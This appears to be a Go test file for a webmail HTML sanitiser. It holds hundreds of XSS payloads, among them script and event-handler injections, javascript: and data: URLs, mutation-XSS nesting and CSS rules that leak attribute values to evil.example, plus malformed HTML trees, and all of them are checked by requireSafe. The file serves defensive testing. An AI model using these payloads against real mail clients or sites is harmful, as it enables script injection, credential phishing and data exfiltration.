package mail

import (
	"strings"
	"testing"
)

// attackVectors holds attacks in the styles of the OWASP cheat sheet, of the holes found in webmail programs, of
// mutation XSS and of CSS exfiltration.
var attackVectors = []string{
	// scripts and handlers
	`<script>alert(1)</script>`, `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`, `<script/src=//evil.example></script>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`, `<<SCRIPT>alert(1);//\<</SCRIPT>`, `<script>alert(1)`,
	`<script src=https://evil.example/x.js?< B >`, `</script><script>alert(1)</script>`, "<script\x0c>alert(1)</script>",
	"<scr\x00ipt>alert(1)</scr\x00ipt>", `<img src=x onerror=alert(1)>`, `<img src="x" OnErRoR="alert(1)">`,
	`<img/src=x/onerror=alert(1)>`, "<img src=x\x0bonerror=alert(1)>", "<img\x0asrc=x\x0donerror\x09=\x09alert(1)>",
	`<img """><script>alert(1)</script>">`, `<img src=x:x onerror=alert(1)//`, `<body onload=alert(1)>`,
	`<body background="javascript:alert(1)">`, `<body/onhashchange=alert(1)><a href=#>x</a>`, `<div onmouseover=alert(1)>x</div>`,
	`<a onclick=alert(1) href=https://x.example>x</a>`, `<b onpointerrawupdate=alert(1)>x</b>`, `<p onbeforematch=alert(1) hidden=until-found>x`,
	`<details open ontoggle=alert(1)>x</details>`, `<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`,
	`<marquee onstart=alert(1)>x</marquee>`, `<input autofocus onfocus=alert(1)>`, `<select autofocus onfocus=alert(1)><option>x`,
	`<textarea autofocus onfocus=alert(1)>x`, `<keygen autofocus onfocus=alert(1)>`, `<button popovertarget=x onclick=alert(1)>x</button>`,
	`<div popover id=x onbeforetoggle=alert(1)>x</div>`, `<a href=x id=x tabindex=1 accesskey=x onfocus=alert(1)>x</a>`,
	`<table background="javascript:alert(1)"><td background='javascript:alert(2)'>x`, `<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">`,
	// schemes
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, "<a href=\"jav\tascript:alert(1)\">x</a>",
	"<a href=\"jav\nascript:alert(1)\">x</a>", `<a href="jav&#x09;ascript:alert(1)">x</a>`, `<a href="jav&NewLine;ascript&colon;alert(1)">x</a>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`, `<a href="&#0000106avascript:alert(1)">x</a>`,
	`<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>`, "<a href=\" \x01\x02 javascript:alert(1)\">x</a>",
	"<a href=\"\u00a0javascript:alert(1)\">x</a>", "<a href=\"java\u200bscript:alert(1)\">x</a>", "<a href=\"\u3000javascript:alert(1)\">x</a>",
	"<a href=\"java\x00script:alert(1)\">x</a>", `<a href="vbscript:msgbox(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, `<a href="blob:https://x.example/1">x</a>`,
	`<a href="filesystem:https://x.example/1">x</a>`, `<a href="file:///etc/passwd">x</a>`, `<a href="view-source:https://x.example">x</a>`,
	`<a href="feed:javascript:alert(1)">x</a>`, `<a href="jar:javascript:alert(1)!/">x</a>`, `<a href="ms-word:ofe|u|https://evil.example/x.docx">x</a>`,
	`<a href="search-ms:query=x&crumb=location:\\evil.example\x">x</a>`, `<a href="smb://evil.example/x">x</a>`, `<a href="\\evil.example\x">x</a>`,
	`<a href="/inbox/7/archive">x</a>`, `<a href="../../admin">x</a>`, `<a href="?x=1">x</a>`, `<a href=#x>x</a>`,
	`<a href="https:evil.example">x</a>`, `<a href="https:/\evil.example">x</a>`, `<a href="https://bank.example@evil.example/">x</a>`,
	`<a href='https://x.example/"onmouseover="alert(1)'>x</a>`, "<a href=`javascript:alert(1)`>x</a>", `<a href="https://x.example" href="javascript:alert(1)">x</a>`,
	`<a xlink:href="javascript:alert(1)">x</a>`, `<a ping="https://evil.example" href="https://x.example">x</a>`, `<a href="https://x.example" target="_top" download>x</a>`,
	`<area href="javascript:alert(1)"><map name=x><area shape=default href=javascript:alert(1)></map>`, `<q cite="javascript:alert(1)">x</q>`,
	`<img src="javascript:alert(1)">`, `<img src=data:image/svg+xml,%3Csvg%20onload=alert(1)%3E>`, `<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">`,
	`<img src="data:text/html;base64,PHN2Zz48L3N2Zz4=">`, `<img src='data:image/png;base64,"onerror=alert(1)'>`, `<img src="data:image/png,x">`,
	`<img src="cid:x&quot; onerror=alert(1)">`, `<img src="cid:../../../admin">`, `<img src="cid:%22%3E%3Cscript%3E">`,
	// documents, frames, forms
	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<iframe><!--</iframe><img src=x onerror=alert(1)>-->`,
	`<object data="javascript:alert(1)"></object>`, `<object type=text/html data=https://evil.example></object>`, `<embed src="javascript:alert(1)">`,
	`<applet code=x codebase=https://evil.example></applet>`, `<frameset onload=alert(1)><frame src=https://evil.example></frameset>`,
	`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<META HTTP-EQUIV="Link" Content="<https://evil.example/x.css>; REL=stylesheet">`,
	`<meta http-equiv="Content-Security-Policy" content="default-src *">`, `<base href="javascript:alert(1)//">`, `<base href="https://evil.example/" target="x">`,
	`<link rel=stylesheet href=https://evil.example/x.css>`, `<link rel=prefetch href=https://evil.example>`, `<link rel="dns-prefetch" href="//evil.example">`,
	`<form action=https://evil.example><input name=password type=password><button formaction=javascript:alert(1)>Sign in</button></form>`,
	`<isindex type=image src=1 onerror=alert(1)>`, `<portal src=https://evil.example></portal>`, `<fencedframe></fencedframe>`,
	`<dialog open>x</dialog>`, `<slot name=x></slot>`, `<x-custom onclick=alert(1)>x</x-custom>`, `<xml id=x><i><b><img src=x onerror=alert(1)></b></i></xml>`,
	`<?xml-stylesheet href="javascript:alert(1)"?>`, `<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;`, `<![CDATA[<script>alert(1)</script>]]>`,
	`<?php echo 1 ?><img src=x onerror=alert(1)>`, `<%= x %><%tag onclick=alert(1)>`,
	// foreign content and mutation
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg/onload=alert(1)//`, `<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>`,
	`<svg><animate attributeName=href values=javascript:alert(1) /></svg>`, `<svg><set attributeName=onmouseover to=alert(1)></svg>`,
	`<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>`,
	`<svg><filter><feImage href="https://evil.example/x.png"/></filter></svg>`, `<svg><image href="https://evil.example/x.png"/></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`, `<svg><style>*{background:url(//evil.example)}</style></svg>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<math><a xlink:href=javascript:alert(1)>x</a></math>`,
	`<math href="javascript:alert(1)">x</math>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`,
	`<math><style><img src=x onerror=alert(1)></style></math>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<template><img src=x onerror=alert(1)></template>`, `<template><template></template><script>alert(1)</script>`, `<p title="</template><img src=x onerror=alert(1)>">`,
	`<textarea><img title="</textarea><img src=x onerror=alert(1)>">`, `<title><img title="</title><img src=x onerror=alert(1)>">`,
	`<xmp><img title="</xmp><img src=x onerror=alert(1)>">`, `<noembed><img title="</noembed><img src=x onerror=alert(1)>">`,
	`<noframes><img title="</noframes><img src=x onerror=alert(1)>">`, `<plaintext><img src=x onerror=alert(1)>`, `<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>`,
	`<style><!--</style><img src=x onerror=alert(1)>--></style>`, `<style></style<img src=x onerror=alert(1)>`, `<style>@import "x</style><img src=x onerror=alert(1)>"</style>`,
	`<!--><img src=x onerror=alert(1)>-->`, `<!--!><img src=x onerror=alert(1)-->`, `<!-- --!><img src=x onerror=alert(1)>-->`, `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<comment><img src="</comment><img src=x onerror=alert(1)>"></comment>`, `<select><style></select><img src=x onerror=alert(1)></style>`,
	`<table><td><style></td></table><img src=x onerror=alert(1)>`, "<img alt=\"`` onerror=alert(1)\">", `<a title="&lt;img src=x onerror=alert(1)&gt;">x</a>`,
	`<p id="x" name="cookie"><img name=getElementById><form id=document>x`, `<desc><img src=x onerror=alert(1)></desc>`, `<svg><title><a href="</title><img src=x onerror=alert(1)>">`,
	// CSS
	`<style>@import url(https://evil.example/x.css);</style>`, `<style>@import 'https://evil.example/x.css' screen;</style>`, `<style>@im\port"//evil.example"</style>`,
	`<style>input[value^="a"]{background:url(https://evil.example/a)}</style>`, `<style>a[href*="token=a"]{background:url(https://evil.example/a)}</style>`,
	`<style>@font-face{font-family:x;src:url(https://evil.example/f);unicode-range:U+41}*{font-family:x}</style>`, `<style>@namespace url(https://evil.example);</style>`,
	`<style>a:hover{background:url(https://evil.example/h)}a:visited{background:url(https://evil.example/v)}</style>`, `<style>*::before{content:url(https://evil.example/c)}</style>`,
	`<style>.x{background:image-set("https://evil.example/x" 1x)}</style>`, `<style>.x{background:-webkit-image-set(url(//evil.example/x) 1x)}</style>`,
	`<style>.x{background:var(--u)}:root{--u:url(https://evil.example/v)}</style>`, `<style>.x{cursor:url(https://evil.example/c),auto;filter:url(https://evil.example/f#x);mask:url(//evil.example/m)}</style>`,
	`<style>@supports(display:grid){*{background:url(https://evil.example/s)}}</style>`, `<style>@media screen{@import url(https://evil.example/x.css);}</style>`,
	`<style>@keyframes x{from{background:url(https://evil.example/k)}}*{animation:x 1s}</style>`, `<style>.x{x:expression(alert(1))}</style>`, `<style>.x{b\61 ckground:u\72l(//evil.example)}</style>`,
	`<style>.x{background:url("https://evil.example/</style><script>alert(1)</script>")}</style>`, `<style>.x{color:red;}</ style><script>alert(1)</script>`,
	`<style>@layer x{*{background:url(//evil.example)}}@container (min-width:1px){*{background:url(//evil.example)}}</style>`, `<style>@page{background:url(//evil.example)}@counter-style x{symbols:url(//evil.example)}</style>`,
	`<style>.a{.b &{background:url(//evil.example)}}</style>`, `<style>:has(input){background:url(//evil.example)}</style>`, `<style>:is(body,x):not(y){background:url(//evil.example/n)}</style>`,
	`<style>}}}.x{position:fixed}{{{</style>`, `<style>{}*{color:red</style>`, `<style>"</style><img src=x onerror=alert(1)>`, `<style>/*</style><img src=x onerror=alert(1)>*/`,
	`<div style="background:url(javascript:alert(1))">x`, `<div style="background:url(&#1;javascript:alert(1))">x`, `<div style="width:expression(alert(1))">x`,
	`<div style="width:exp/**/ression(alert(1))">x`, `<div style="-moz-binding:url(https://evil.example/x.xml#x)">x`, `<div style="behavior:url(x.htc)">x`,
	`<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x`, `<div style="position:abs\6flute;inset:0">x`, `<div style="background:url('https://evil.example/a')onerror=x">x`,
	`<div style='background:url("https://evil.example/a\22);color:red;x:\28 ")'>x`, `<div style="background:url(https://evil.example/a b)">x`, `<div style="background:url(https://evil.example/%22);x:y">x`,
	`<div style="list-style:url(data:image/svg+xml,<svg onload=alert(1)>)">x`, `<div style="color:red;}</style><script>alert(1)</script>">x`, "<div style=\"back\x00ground:url(//evil.example)\">x",
	`<div style="background-image:url(http://evil.example/1), url(//evil.example/2)">x`, `<div style="font-family:'x;background:url(//evil.example)'">x`, `<div style="font-family:x\27;}">x`,
	`<div style="border-image:url(//evil.example/b);shape-outside:url(//evil.example/s);offset-path:url(//evil.example)">x`, `<div style="background:src('//evil.example');background:cross-fade(url(//evil.example),red)">x`,
	`<div style="animation:x 1s infinite;transition:all 1s;transform:scale(99)">x`, `<div style="content:attr(title)">x`, `<div style="color:red!important;--x:url(//evil.example)">x`, `<div style="height:999999999999999px">x`,
	// remote loads
	`<img srcset="https://evil.example/1 1x, https://evil.example/2 2x">`, `<img src=cid:a srcset="javascript:alert(1) 1x">`, `<picture><source srcset=https://evil.example/p><img src=https://evil.example/q></picture>`,
	`<img srcset=",,,https://evil.example/a,b 1x">`, "<img srcset=\"\thttps://evil.example/x\t1x\">", `<video poster=https://evil.example/p src=https://evil.example/v></video>`, `<audio src=https://evil.example/a></audio>`,
	`<input type=image src=https://evil.example/i>`, `<td background=https://evil.example/t>`, `<table><tr background="//evil.example/r"><td>x`, `<img src=//evil.example/x>`, `<img src="/\evil.example/x">`, `<img src="http:\\evil.example\x">`,
	`<img src=" https://evil.example/x">`, "<img src=\"ht\ntps://evil.example/x\">", `<img src="https://evil.example/x&quot;)">`, `<img src=https://[::1]/x>`, `<img src="https://evil.example:99999999/x">`, `<img src="https://%65vil.example/x">`,
	`<img src="https://user:pass@evil.example/x">`, `<image src=https://evil.example/x>`, `<bgsound src=https://evil.example/x>`, `<layer src=https://evil.example/x></layer>`, `<track src=https://evil.example/x>`,
	`<img longdesc=https://evil.example/x usemap=#x crossorigin src=https://evil.example/y>`, `<body background=https://evil.example/x>`, `<blockquote cite=https://evil.example>x`, `<del cite=//evil.example>x</del>`,
	`<html manifest=https://evil.example/m>`, `<div itemscope itemid=https://evil.example>x`, `<a attributionsrc=https://evil.example href=https://x.example>x</a>`, `<img attributionsrc=https://evil.example src=cid:x>`,
	"<img src=x \xff\xfe onerror=alert(1)>", "\xed\xa0\x80<script>alert(1)</script>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<\x00script>alert(1)</script>", "＜script＞alert(1)＜/script＞",
}

// treeVectors holds ill-nested HTML that browsers repair.
var treeVectors = []string{
	`<b><p>x</b>y</p>z`, `<a href=https://a.example>x<a href=https://b.example>y</a>z`, `<p><div>x</p>y</div>`, `<p>x<table><tr><td><p>y</table>z`, `<table>x<tr>y<td>z</table>`,
	`<table><a href=https://a.example><tr><td>x</td></a></table>`, `<table><tr><td>x<table><tr><td>y</table></table>`, `<table><table><td>x`, `<td>x</td><tr>y`, `<ul><li>x<li>y<ul><li>z</ul></ul>`,
	`<li>x<div><li>y`, `<dl><dt>x<dd>y<dt>z`, `<h1>x<h2>y</h1>z`, `<h1><b>x<h2>y</h2>`, "<pre>\n\nx</pre>", "<pre>\nx</pre>", "<pre>\x16\n", "<pre>\n<!-- -->\n\nx", "<pre><!-- -->\n</pre>\n", `<b><b><b><b><b>x</b></b></b></b></b>y`,
	`<font size=1><font size=2><p>x<p>y<p>z`, `<i><b>x</i>y</b>`, `</p></br></table></td></div>x`, `<table><caption><p>x<caption>y<col><td>z`, `<table><colgroup><col>x<col></colgroup><td>y`,
	`<a href=https://a.example><table><tr><td><a href=https://b.example>x</a></table></a>`, `<center><table><center><tr><center><td><center>x</center></table></center>`, `<span><div>x</span>y</div>`,
	`<div><a href=https://a.example><div>x</a>y</div>z</div>`, `<a href=https://a.example><ul><li>x</a>y</ul>`, `<table><thead><tr><th>x<tbody><tr><td>y<tfoot><td>z</table>`, `<table><tr><hr><img src=cid:x><td>y</table>`,
	`<p><ul><li><p>x</ul>y`, `<body bgcolor=red text=blue class="a b" style="margin:0"><body class=c>x`, `<html dir=rtl lang=ar><body>x</body></html>y`, `<button><p>x<button>y</p>`, `<p><button><p>x`,
	`<dd><li><dd>x`, `<address><li><address><li>x`, `<nobr><nobr>x`, `<a><a><a>x`, `<a name=x><div><a name=y>x</div></a>`, `<p><a href=https://a.example><p>x</a>y`, `<b><table><tr><td></b>x</table>y`,
	`<select><option>x<option>y</select>`, `<ruby>x<rt>y<rp>z</ruby>`, `<svg><p>x</svg>y`, `<svg/>x`, `<math>x<div>y`, `<xml><p>x</xml>`, `<o:p>x</o:p>`, `<ul><ul><li>x</ul></li></ul>`, `<ol><li><table><tr><td><li>x</table>`,
	`<hr></hr><img></img>x`, `<p>x<hr>y`, `<caption>x</caption>`, `<table><tbody><tbody><tr><tr><td><td>`, `<pre><p>x</pre>y`, `<center><p>x</center>y`, `<b><center>x</b>y</center>`, `<i><p><b><div>x</i>y`,
}

func TestSanitiseAttacks(t *testing.T) {
	if len(attackVectors) < 120 {
		t.Fatalf("only %d vectors", len(attackVectors))
	}
	for _, v := range attackVectors {
		requireSafe(t, v)
		requireSafe(t, "<table><tr><td>"+v+"</td></tr></table>after")
		requireSafe(t, "<p><b><a href=https://x.example>"+v+"<p>after")
	}
	requireSafe(t, strings.Join(attackVectors, "\n"))
}

func TestSanitiseTrees(t *testing.T) {
	for _, v := range treeVectors {
		requireSafe(t, v)
		for _, w := range treeVectors {
			requireSafe(t, v+w)
		}
	}
}
